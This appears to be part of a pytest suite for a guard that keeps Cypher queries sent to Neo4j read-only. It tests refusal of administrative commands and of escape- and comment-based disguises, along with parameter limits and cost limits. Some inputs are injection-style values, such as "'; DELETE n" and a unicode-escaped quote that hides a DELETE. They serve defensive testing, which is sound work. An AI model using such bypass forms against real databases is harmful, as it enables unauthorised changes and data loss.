    "CALL dbms.components() YIELD name, versions UNWIND versions AS version RETURN name, version",
    "MATCH (n) RETURN n",
]


@pytest.mark.parametrize("query", TOOLS)
def test_what_tools_ask_passes_where_tools_are_let_in(query: str) -> None:
    assert check_query(query, tools=True).about_server == (not query.startswith("MATCH"))
    if not query.startswith("MATCH"):
        with pytest.raises(CypherRefused):
            check_query(query)


@pytest.mark.parametrize(
    "query",
    [
        "SHOW USERS",
        "SHOW /**/ USERS",
        "SHOW SETTINGS",
        "SHOW TRANSACTIONS",
        "SHOW USER",
        "SHOW ALL USERS",
        "SHOW CURRENT USERS",
        "SHOW CURRENT",
        "SHOW USER PRIVILEGES",
        "SHOW CURRENT USER PRIVILEGES",
        "SHOW PROCEDURES EXECUTABLE BY neo4j",
        "SHOW DATABASES EXECUTABLE YIELD name YIELD name",
        "SHOW DEFAULT DATABASES",
        "SHOW ALIASES FOR DATABASE",
        "SHOW",
        "SHOW `DATABASES`",
        "SHOW 'DATABASES'",
        r"SH\u004FW SETTINGS",
        "CYPHER runtime=slotted SHOW DATABASES",
        "CREATE DATABASES",
        "STOP DATABASES",
        "DROP INDEXES",
        "SHOW DATABASES; SHOW USERS",
        "SHOW DATABASES SHOW USERS",
        "SHOW DATABASES SHOW YIELD name",
        "SHOW DATABASE terminate",
        "SHOW DATABASE 'x'",
        "SHOW DATABASES YIELD * TERMINATE TRANSACTIONS 'x'",
        "SHOW FUNCTIONS YIELD * CREATE (n)",
        "SHOW FUNCTIONS YIELD name RETURN custom.fn(name)",
        "MATCH (n) SHOW DATABASES",
        "CALL { SHOW DATABASES } RETURN 1",
        "CALL dbms.killConnection('x')",
        "CALL dbms.listConfig()",
        "CALL db.clearQueryCaches()",
        "LOAD/**/CSV FROM 'x' AS r RETURN r",
    ],
)
def test_tools_may_ask_nothing_else(query: str) -> None:
    with pytest.raises(CypherRefused) as refused:
        check_query(query, tools=True)
    assert refused.value.unlisted == query.startswith("CALL db")


@pytest.mark.parametrize("word", sorted(REJECTED_COMMANDS))
def test_a_command_is_no_clause_anywhere_but_can_be_a_name(word: str) -> None:
    for query in (f"{word} x", f"MATCH (n) {word} n", f"MATCH (n) RETURN n {word} n", f"CALL {{ {word} x }} RETURN 1"):
        with pytest.raises(CypherRefused):
            check_query(query)
    check_query(
        f"MATCH (n:{word})-[:{word}]->({word.lower()}) WHERE n.{word} = ${word} RETURN {word.lower()} AS {word}"
    )


@pytest.mark.parametrize(
    ("parameters", "told"),
    [
        ({"": 1}, "invalid name"),
        ({"$x": 1}, r"invalid name: remove the \$"),
        ({"x": 1, "$profileExecution": True}, "profileExecution is not allowed: it has an invalid name"),
        ({"\udfff": 1}, "invalid name"),
        ({"a": 2**63}, "64 bits"),
        ({"a": [{"b": -(2**63) - 1}]}, "64 bits"),
        ({"a": float("nan")}, "not finite"),
        ({"a": [1e308 * 10]}, "not finite"),
        ({"a": "\ud800"}, "surrogate"),
        ({"a": {"\udc00": 1}}, "key that is not a valid string"),
        ({"a": {1: 1}}, "key that is not a valid string"),
        ({"a": object()}, "unsupported type object"),
    ],
)
def test_parameters_that_cannot_be_sent_are_refused(parameters: dict[str, Any], told: str) -> None:
    with pytest.raises(InvalidParameter, match=told):
        check("RETURN 1", parameters)


def nested(depth: int) -> Any:
    value: Any = 1
    for level in range(depth):
        value = [value] if level % 2 else {"k": value}
    return value


def test_parameters_may_be_32_deep() -> None:
    check("RETURN $a", {"a": nested(32), "b": -(2**63), "c": 2**63 - 1, "d": "'; DELETE n", "e": None})
    for depth in (33, 100_000):
        with pytest.raises(InvalidParameter, match="nested deeper"):
            check("RETURN $a", {"a": nested(depth)})


def test_a_parameter_that_is_used_has_to_be_given() -> None:
    with pytest.raises(InvalidParameter, match=r"\$b, \$c without"):
        check("RETURN $a, $b, $`c`, $b", {"a": 1})
    check("EXPLAIN RETURN $a", {})
    check("MATCH (n:$any($a)) RETURN n // $b", {"a": "X"})
    assert check_query("RETURN $a + $b.c").parameters == ["a", "b"]


@pytest.mark.parametrize(
    ("written", "name"),
    [("$1", "1"), ("$25", "25"), ("$`a b`", "a b"), ("$`a``b`", "a`b"), ("$é", "é"), ("$名前", "名前"), ("$_", "_"),
     ("$`1.5`", "1.5"), ("$`a\n`", "a\n"), (r"$\u0061", "a")],
)  # fmt: skip
def test_a_parameter_may_have_any_name_that_neo4j_takes(written: str, name: str) -> None:
    check(f"RETURN {written} AS x", {name: 5})
    with pytest.raises(InvalidParameter, match="without a value"):
        check(f"RETURN {written} AS x", {"other": 5})
    with pytest.raises(CypherTooCostly):  # the guard uses the value, whatever the name of the parameter
        check(f"RETURN [x IN range(1, {written}) | x] AS x", {name: 10**9})


def test_the_size_of_a_query_is_limited() -> None:
    check_query(f"RETURN '{'a' * (MAX_BYTES - 9)}'")
    for query in (f"RETURN '{'a' * MAX_BYTES}'", f"RETURN '{'é' * (MAX_BYTES // 2)}'", "RETURN '\ud800'"):
        with pytest.raises(InvalidParameter):
            check_query(query)


@pytest.mark.parametrize(
    "part",
    ["(", "[", "{", "CASE ", "NOT ", "-", "'", '"', "`", "/*", "//", "//\n", "/**/", "\\", "\\u", "$", "1", "1.", "1.a",
     "a", "a.", "é", "..", ":", "a+", "a,", " ", "\n", "CALL{", "EXISTS{", "reduce(a=", "[x IN ", "set ", "''"],
)  # fmt: skip
@pytest.mark.parametrize("before", ["", "RETURN ", "MATCH (a) RETURN a.", "RETURN '"])
def test_no_text_takes_long_or_goes_too_deep(before: str, part: str) -> None:
    query = before + part * ((MAX_BYTES - 20) // len(part.encode()))
    begun = time.process_time()
    try:
        check_query(query)
    except TradegraphError as error:
        assert len(error.message) < 500
    assert time.process_time() - begun < 2


def test_many_names_do_not_take_long_either() -> None:
    names = [f"a{number}" for number in range(4000)]
    begun = time.process_time()
    check_query("RETURN " + "+".join(names + names))
    assert time.process_time() - begun < 2


def test_an_ordinary_query_takes_a_fraction_of_a_millisecond() -> None:
    query = (
        "MATCH (m:Measure {id: $id})-[r:TARGETS|RESTRICTS]->(t:Entity) WHERE r.valid_from <= $day < r.valid_to "
        "WITH m, collect(DISTINCT t.name) AS names, count(*) AS n ORDER BY n DESC LIMIT 10 "
        "RETURN m.name AS name, names[0..5] AS some, CASE WHEN n > 3 THEN 'many' ELSE 'few' END AS how"
    )
    best = 1.0
    for _ in range(200):
        begun = time.process_time()
        check(query, {"id": "measure:x", "day": "2024-05-01"})
        best = min(best, time.process_time() - begun)
    assert best < 0.001  # usually a tenth of this; slow machines need more


DECODED = [
    (r"RETURN 'caf\u00e9'", "RETURN 'caf\u00e9'"),
    (
        r"RETURN '\ud83d\ude00' AS `x` /* ' */, '\u4e2d\n' // end",
        "RETURN '\U0001f600' AS `x` /* ' */, '\u4e2d\\n' // end",
    ),
    (r"RET\u0055RN 1\u0020AS \u0078", "RETURN 1 AS x"),
    (r"RETURN 1 AS `\u00e9`", "RETURN 1 AS `\u00e9`"),
    (r"RETURN '\\u0041', '\\\u0041', '\\\\u0041'", r"RETURN '\\u0041', '\\A', '\\\\u0041'"),
    (r"RETURN '\u005c\u005c', '\u005cn', '\u005c\u0027'", r"RETURN '\\', '\n', '\''"),
    (r"MATCH (n) WHERE n.x = 'a\u005c' DELETE n //' RETURN n", r"MATCH (n) WHERE n.x = 'a\' DELETE n //' RETURN n"),
    (r"RETURN '\U0041 \x'", r"RETURN '\U0041 \x'"),
    ("RETURN 1", "RETURN 1"),
]


@pytest.mark.parametrize(("query", "text"), DECODED)
def test_escapes_are_decoded_as_neo4j_does_and_that_is_sent(query: str, text: str) -> None:
    assert decode(query) == text
    assert check_query(query).text == text == check(query, {})
    assert check_query(text).text == text  # Neo4j decodes the text again, without effect


@pytest.mark.parametrize(
    ("query", "index"),
    [
        (r"RETURN '\u00zz'", 8),
        (r"RETURN 'C:\users'", 10),
        (r"RETURN '\uu00e9'", 8),
        ("RETURN '\\u\u0660\u0660\u0664\u0661'", 8),  # Java also accepts these digits, and a sign
        (r"RETURN '\u+041'", 8),
        (r"RETURN 1 // \u", 12),
        (r"RETURN '\u005cu0041'", 8),
        (r"RETURN '\u00e9', '\u005c\\u0041'", 25),
        (r"RETURN '\u005cu00zz'", 8),
    ],
)
def test_an_escape_that_cannot_be_decoded_or_would_be_decoded_twice_is_a_slip(query: str, index: int) -> None:
    with pytest.raises(InvalidEscape) as bad:
        decode(query)
    assert bad.value.index == index
    with pytest.raises(CypherUnparsable, match=f"line 1, column {index + 1}:"):
        check_query(query)


def test_half_of_a_surrogate_pair_may_not_be_escaped_either() -> None:
    with pytest.raises(InvalidParameter, match="surrogate pair"):
        check_query(r"RETURN '\ud83d'")


def test_places_are_those_of_the_query_as_written() -> None:
    query = r"RETURN '\u00e9\ud83d\ude00' x 1"
    assert [find_source_index(query, index) for index in (0, 8, 9, 10, 12)] == [0, 8, 14, 26, 28]
    with pytest.raises(CypherUnparsable, match=r"^x \(line 1, column 29\) cannot follow 'é😀'"):
        check_query(query)
    with pytest.raises(CypherUnparsable, match="line 1, column 16: the character U\\+00A0"):
        check_query("RETURN '\\u00e9'\u00a0+ 1")


CASES = CYPHER_DIR.parent.parent / "shared" / "guard_cases.jsonl"


UNBOUNDED = {
    "MATCH p = SHORTEST 1 (a)-[]-+(b) RETURN p": "line 1, column 29",
    "MATCH p = ANY SHORTEST (a)((x)--(y))*(b) RETURN p": "line 1, column 37",
    "MATCH p = ALL SHORTEST (a)-->{2,}(b) RETURN p": "line 1, column 30",
    "MATCH p = SHORTEST 1 (a)-[:OWNS*1..]-(b) RETURN p": "line 1, column 32",
    "MATCH p = SHORTEST 1 ((a)-[*]-(b) WHERE a.x) RETURN p": "line 1, column 28",
    "MATCH ANY (a)-->{1,9}(b) RETURN b": "line 1, column 20",
    "MATCH (n) WHERE COUNT { SHORTEST 1 (n)-->*(m) } > 1 RETURN n": "line 1, column 42",
}


@pytest.mark.parametrize("query", UNBOUNDED)
def test_a_path_selector_needs_an_upper_bound(query: str) -> None:
    with pytest.raises(CypherTooCostly) as refused:
        check(query, {})
    assert UNBOUNDED[query] in refused.value.message
    assert "write an upper bound of at most 8, such as -[]-{1,4}" in refused.value.message


#: Cases that were written before path selectors needed an upper bound.
BOUNDED_SINCE = {"R052"}


@pytest.mark.skipif(not CASES.exists(), reason="no guard_cases.jsonl in a folder named shared beside the project")
def test_cases_kept_outside_the_project_come_out_as_they_say() -> None:
    wrong = []
    for line in CASES.read_text(encoding="utf-8").splitlines():
        case = json.loads(line)
        if case["id"] in BOUNDED_SINCE:
            continue
        try:
            check(case["query"], case["params"])
            verdict = "read"
        except CypherTooCostly:
            verdict = "read" if case["group"] == "cost" else "refuse"  # such queries only read
        except (CypherRefused, InvalidParameter):
            verdict = "refuse"
        if verdict != case["verdict"]:
            wrong.append((case["id"], verdict, case["query"][:80]))
    assert wrong == []
